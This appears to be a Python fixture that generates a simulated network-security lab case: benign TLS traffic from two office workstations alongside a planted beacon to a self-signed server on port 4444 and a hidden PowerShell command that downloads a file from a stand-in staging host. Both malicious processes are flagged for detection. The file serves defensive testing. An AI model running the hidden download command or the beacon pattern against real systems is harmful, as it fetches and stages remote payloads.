"""Two office hosts, benign sites, and on one of them a beacon and a download over suspicious TLS."""

from typing import Any

from case import Case
from lab import Lab
from pki import Pki
from stacks import chromium, curl, node_site, openssl_server, python_client
from windows import Program, chrome, edge, explorer, onedrive, powershell, svchost, unsigned, vendor_file


def make(lab: Lab, pki: Pki) -> list[dict[str, Any]]:
    pki.issue("intranet", "intranet.corp.example", "wiki.corp.example")
    pki.issue("update", "update.vendor.example")
    pki.issue("files", "files.cloud.example", rsa_bits=None)
    pki.issue("c2", "WIN-8T3K2", issuer=None, days=60, organization="WIN-8T3K2")
    pki.issue("stage", "cdn.stage.example", issuer=None, start=-0.5, days=2)
    case = Case(
        lab,
        "demo",
        "benign sites, a beacon to a self-signed server on an odd port, a download under a two-day certificate",
    )
    ws4 = case.host("ws-04.corp.example", "10.20.0.14", noise=150)
    ws7 = case.host("ws-07.corp.example", "10.20.0.17", shape="winlogbeat", noise=80)
    case.host("printer", "10.20.0.90", shape=None)
    for address, name in (
        ("203.0.113.10", "intranet.corp.example"),
        ("203.0.113.11", "update.vendor.example"),
        ("203.0.113.12", "files.cloud.example"),
        ("198.51.100.77", "cdn.stage.example"),
    ):
        lab.server(address, name)
    lab.server("198.51.100.23")
    lab.serve(443, node_site("203.0.113.10", 443, "intranet"))
    lab.serve(443, openssl_server("203.0.113.11", 443, "update", "-tls1_2", chain=True))
    lab.serve(443, node_site("203.0.113.12", 443, "files"))
    lab.serve(4444, openssl_server("198.51.100.23", 4444, "c2", "-tls1_2"))
    lab.serve(443, openssl_server("198.51.100.77", 443, "stage", "-tls1_2"))

    outlook_path = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    outlook = Program(
        vendor_file(
            outlook_path, "Microsoft Corporation", "Microsoft Outlook", "16.0.19328.20178", "Microsoft Corporation"
        ),
        f'"{outlook_path}"',
        parent=explorer(),
        created=False,
        age=9_000,
    )
    viewer = unsigned("C:\\Users\\anna.weber\\Downloads\\invoice_viewer.exe", parent=outlook, age=2.4)
    shell = powershell(
        '-nop -w hidden -c "iwr https://cdn.stage.example/a -OutFile $env:TEMP\\a"', parent=viewer, age=1.5, ends=0.6
    )
    wuauserv, drive = svchost("wuauserv", created=False, age=26_000), onedrive()
    browser, browser7, drive7 = chrome(), edge(user="CORP\\jan.kowalski"), onedrive("jan.kowalski")
    site, update, files = ("203.0.113.10", 443), ("203.0.113.11", 443), ("203.0.113.12", 443)

    with case.recording():
        case.act(
            ws4,
            browser,
            site,
            chromium("https://intranet.corp.example/", "https://intranet.corp.example/wiki"),
            server_name="intranet.corp.example",
            version="TLSv13",
        )
        case.act(
            ws4,
            wuauserv,
            update,
            curl("https://update.vendor.example/"),
            server_name="update.vendor.example",
            version="TLSv12",
        )
        case.act(
            ws4, drive, files, curl("https://files.cloud.example/"), server_name="files.cloud.example", version="TLSv13"
        )
        case.act(
            ws4,
            viewer,
            ("198.51.100.23", 4444),
            python_client("198.51.100.23", 4444, "--times", "5", "--pause", "1.1"),
            "self_signed",
            "unusual_port",
            "no_sni",
            version="TLSv12",
        )
        case.act(
            ws4,
            shell,
            ("198.51.100.77", 443),
            python_client("198.51.100.77", 443, "--sni", "cdn.stage.example"),
            "self_signed",
            "short_validity",
            server_name="cdn.stage.example",
            version="TLSv12",
        )
        case.act(
            ws7,
            browser7,
            site,
            curl("https://intranet.corp.example/"),
            server_name="intranet.corp.example",
            version="TLSv13",
        )
        case.act(
            ws7,
            drive7,
            files,
            curl("https://files.cloud.example/"),
            server_name="files.cloud.example",
            version="TLSv13",
        )
        case.act(
            case.hosts[2],
            unsigned("-"),
            update,
            curl("https://update.vendor.example/"),
            server_name="update.vendor.example",
            version="TLSv12",
        )
    case.settle()
    case.notice(viewer, "high")
    case.notice(shell, "high")
    return [case.write()]
